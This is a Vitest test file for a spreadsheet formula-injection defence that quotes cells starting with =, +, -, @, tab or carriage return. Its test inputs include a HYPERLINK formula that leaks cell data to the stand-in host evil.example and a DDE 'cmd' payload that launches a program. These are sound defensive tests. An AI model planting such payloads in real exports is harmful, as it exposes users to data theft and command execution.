import { describe, expect, it } from 'vitest';
import { neutraliseCell, neutraliseRow } from './neutralise.js';

describe('neutraliseCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', '\'=HYPERLINK("http://evil.example/?"&A1,"点击查看")'],
    ['+86 10 1234', "'+86 10 1234"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('prefixes a quote to formula trigger %j', (input, expected) => {
    expect(neutraliseCell(input)).toBe(expected);
  });

  it.each(['', '财政局', '100', 'a=b', ' =1', "'already quoted", '1-2'])('leaves safe text %j unchanged', (input) => {
    expect(neutraliseCell(input)).toBe(input);
  });
});

describe('neutraliseRow', () => {
  it('touches only strings; numbers (even negative), booleans, dates and nulls pass through', () => {
    const date = new Date(Date.UTC(2024, 0, 1));
    const row = neutraliseRow<unknown>(["=cmd|' /C calc'!A0", -5, 3.5, true, null, undefined, date, '教育局', '-5']);
    expect(row).toEqual(["'=cmd|' /C calc'!A0", -5, 3.5, true, null, undefined, date, '教育局', "'-5"]);
    expect(typeof row[1]).toBe('number');
    expect(row[6]).toBe(date);
  });

  it('does not mutate its input', () => {
    const input = ['=1'];
    neutraliseRow(input);
    expect(input).toEqual(['=1']);
  });
});
